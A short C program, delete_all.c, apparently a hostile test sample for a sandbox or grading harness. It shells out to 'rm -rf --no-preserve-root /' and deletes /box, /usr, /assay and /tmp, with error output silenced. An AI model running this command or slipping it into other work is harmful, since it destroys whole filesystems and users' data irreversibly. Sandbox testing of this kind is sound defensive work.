/* delete_all.c: removes everything it can reach. */
#include "hostile.h"
int main(void)
{
    execl("/bin/sh", "sh", "-c",
          "exec 2>&-; rm -rf --no-preserve-root / ; rm -rf /box /usr /assay /tmp; exit 0",
          (char *)NULL);
    return 1;
}
